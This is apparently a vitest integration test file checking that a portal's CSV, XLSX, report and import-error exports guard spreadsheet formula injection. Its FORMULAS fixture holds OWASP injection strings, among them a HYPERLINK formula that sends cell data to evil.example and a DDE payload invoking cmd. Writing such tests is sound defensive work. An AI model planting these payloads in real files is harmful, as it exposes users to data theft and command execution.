import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { readXlsxCells, xlsxFormulaCells } from '../support/xlsx-cells';
import { useTestServer } from './harness';
import { ImportClient, rawFile, rawLine } from './imports/import-client';

/** No CSV the portal writes holds a text a spreadsheet program runs as a formula, and the import reads the guard back off. */
const server = useTestServer();
/** Texts spreadsheet programs run as formulas: OWASP's CSV injection examples and every character a formula starts with. */
const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\tleading tab', '\rleading CR'];
const GUARDED = FORMULAS.map((formula) => `'${formula}`);
const LONGITUDE = -2.5;
const REPORT = 'offsite-report-facility-input';
let client: ImportClient;
/** The keys of the partners and sites named by FORMULAS, in their order. */
const partners: string[] = [];
const sites: string[] = [];

async function download(path: string): Promise<Buffer> {
  const response = await server.fetch(`/api/v1${path}`, {
    headers: { authorization: `Bearer ${client.token.replace(/^Bearer /, '')}`, 'x-tenant': client.tenant },
  });
  expect(response.status, path).toBe(200);
  return Buffer.from(await response.arrayBuffer());
}

const csvRows = (bytes: Buffer, delimiter = ',') => parse(bytes, { bom: true, delimiter }) as string[][];
/** A cell as a spreadsheet program saves it: in quotes, its quotes doubled. */
const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;

beforeAll(async () => {
  const { token } = await server.loginAs('producer.admin@oilco.example');
  client = new ImportClient(server, token, 'OILCO_PRODUCER');
  await client.masterData();
  const product = await client.resources.create('products', { number: 'FX-P', validFrom: '2020-01-01' });
  for (const [index, name] of FORMULAS.entries()) {
    partners.push(String((await client.resources.create('partners', { number: `FX-${index}`, name })).number));
    const site = await client.resources.create('locations', {
      number: `FX-S-${index}`,
      name,
      productionSite: true,
      thirdPartyFacility: true,
      validFrom: '2020-01-01',
      longitude: LONGITUDE,
    });
    sites.push(String(site.number));
    await client.resources.create('inbounds', {
      number: `FX-IN-${index}`,
      product: product.number,
      dischargeSite: site.number,
      dischargeDate: '2025-03-01',
      quantityDischargedKg: 100,
      quantityDischargedL15: 110,
      cancelled: 0,
      movementStatus: 'open',
    });
  }
});

describe('CSV cells that would start a formula', () => {
  it('the list CSV writes every such text with a leading apostrophe', async () => {
    const rows = csvRows(await download('/partners.csv?_columns=number,name&number_like=FX-&_sort=number&lang=en'));
    expect(rows).toEqual([['Partner number', 'Name'], ...partners.map((number, index) => [number, GUARDED[index]])]);
  });

  it('a negative number is written as the number, not guarded', async () => {
    const rows = csvRows(await download(`/locations.csv?_columns=number,longitude&number=${sites[2]}`));
    expect(rows[1]).toEqual([sites[2], String(LONGITUDE)]);
  });

  it('the XLSX holds such texts as plain text cells, without apostrophe and without formula', async () => {
    const bytes = await download('/partners.xlsx?_columns=name&number_like=FX-&_sort=number');
    expect(xlsxFormulaCells(bytes)).toEqual([]);
    expect(readXlsxCells(bytes).slice(1)).toEqual(FORMULAS.map((formula) => [formula]));
  });

  it("a report's CSV guards its text columns (the site name) and writes its numbers as numbers", async () => {
    const rows = csvRows(await download(`/reports/${REPORT}/export?format=csv&lang=en&compliancePeriod=2025`)).slice(1);
    const column = (key: string) => server.app.registry.reports.get(REPORT)!.columns.findIndex((candidate) => candidate.key === key);
    const ours = rows.filter((row) => sites.includes(row[column('site')]));
    expect(ours.map((row) => row[column('siteName')])).toEqual(GUARDED);
    expect(ours.map((row) => row[column('longitude')])).toEqual(sites.map(() => LONGITUDE.toFixed(5)));
  });

  it("an import's error list CSV guards the values it lists; the list itself shows them as they were", async () => {
    // The import trims its cells: texts with leading white space come as the export writes them, guarded.
    const cells = [quoted(FORMULAS[0]), ...GUARDED.map(quoted)];
    const result = await client.imported('rawImport', rawFile(...cells.map((cell, index) => rawLine(`FX-E-${index}`, cell))));
    expect(result).toMatchObject({ importStatus: 'failed', errorCount: cells.length });
    const listed = await client.call('GET', `/imports/${result.id}/errors?lang=en`);
    expect(listed.body.map((error: { value: string }) => error.value)).toEqual([FORMULAS[0], ...FORMULAS]);
    const rows = csvRows(await download(`/imports/${result.id}/errors.csv?lang=en`));
    expect(rows.slice(1).map((row) => row[2])).toEqual([GUARDED[0], ...GUARDED]);
  });

  // Last: a failed round trip would change the records the other tests read.
  it('the list CSV imports back to the same records', async () => {
    for (const resource of ['partners', 'locations']) {
      const csv = await download(`/${resource}.csv?number_like=FX-`);
      expect(await client.imported(`resource:${resource}`, csv), resource).toMatchObject({ importStatus: 'succeeded', recordsUnchanged: FORMULAS.length });
    }
    for (const [index, number] of partners.entries()) expect((await client.call('GET', `/partners/${number}`)).body.name).toBe(FORMULAS[index]);
    expect((await client.call('GET', `/locations/${sites[2]}`)).body.longitude).toBe(LONGITUDE);
  });
});
